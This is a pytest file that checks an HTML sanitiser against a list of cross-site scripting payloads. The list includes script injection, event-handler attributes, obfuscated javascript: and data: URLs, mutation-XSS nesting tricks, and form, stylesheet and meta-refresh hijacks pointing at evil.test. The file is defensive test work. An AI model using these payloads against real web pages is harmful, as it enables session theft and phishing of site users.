"""Nothing that could run, load or restyle comes through, whatever the markup."""

from html.parser import HTMLParser

import pytest

from standfirst.kit.html import Image, LinkCard, blocks, clean_inline

ALLOWED = {"a": {"href"}, "b": set(), "br": set(), "i": set(), "sub": set(), "sup": set()}
CORPUS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT/SRC=//evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="data:image/svg+xml;base64,AAAA">',
    '<img src="jav&#x09;ascript:alert(1)">',
    "<svg><g onload=alert(1)></svg><svg/onload=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    '<a href="vbscript:x">x</a><a href="https:javascript:x">x</a>',
    '<a href="https://a.b/&quot; onclick=alert(1) x=&quot;">x</a>',
    "<a href='https://a.b/\"><script>alert(1)</script>'>x</a>",
    '<b style="position:fixed" class="x" id="y" onclick=alert(1)>x</b>',
    "<iframe src=javascript:alert(1)></iframe><embed src=data:x><object data=file:///x>",
    "<form action=https://evil.test><input type=password></form><button>x</button>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.test><base href=//evil.test>",
    '<meta http-equiv="refresh" content="0;url=https://evil.test">',
    "<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]><?php echo '<script>' ?>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img src=x onerror=alert(1)></textarea><title><script>1</script></title>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table>",
    "<b/onclick=alert(1)//<i>x</i><a\x00 href=javascript:alert(1)>x",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp>",
    "<table background=javascript:x><td><a href=javascript:x>y</table>",
    "<ul><li onclick=x><img src=//a.b/c.jpg onload=alert(1)></ul>",
    "<blockquote cite=javascript:x><p onclick=x>q</p></blockquote>",
    "<p>\ud800\ufffe\x01&#xD800;&#0;&#x110000;&#99999999999999999999;</p>",
    "<a href='https://[broken'>x</a><a href='https://'>x</a>",
]


class Inventory(HTMLParser):
    """Fails on any tag, attribute or address that a sanitised line may not hold."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED, tag
        for name, value in attrs:
            assert name in ALLOWED[tag], name
            assert (value or "").lower().startswith(("https://", "http://", "mailto:")), value


def lines(fragment: str) -> list[str]:
    """All inline HTML in the blocks of a fragment."""
    found: list[str] = []
    for block in blocks(fragment)[0]:
        rows = getattr(block, "rows", ())
        cells = [cell for row in (*rows, getattr(block, "head", ())) for cell in row]
        found += [getattr(block, "html", ""), *getattr(block, "items", ()), *cells]
    return found


@pytest.mark.parametrize("fragment", CORPUS)
def test_a_hostile_fragment_becomes_harmless(fragment: str) -> None:
    for line in (clean_inline(fragment), *lines(fragment)):
        Inventory().feed(line)
        line.encode()


@pytest.mark.parametrize("fragment", CORPUS)
def test_addresses_of_pictures_and_cards_are_web_addresses(fragment: str) -> None:
    for block in blocks(fragment)[0]:
        if isinstance(block, LinkCard):
            assert block.url.startswith("https://")
        if isinstance(block, Image):
            assert block.src in ("x", "https://a.b/c.jpg")


def test_escaped_markup_stays_text() -> None:
    assert clean_inline("&lt;script&gt;x&lt;/script&gt;") == "&lt;script&gt;x&lt;/script&gt;"
    assert clean_inline("<![CDATA[<b>x</b>]]>") == "&lt;b&gt;x&lt;/b&gt;"
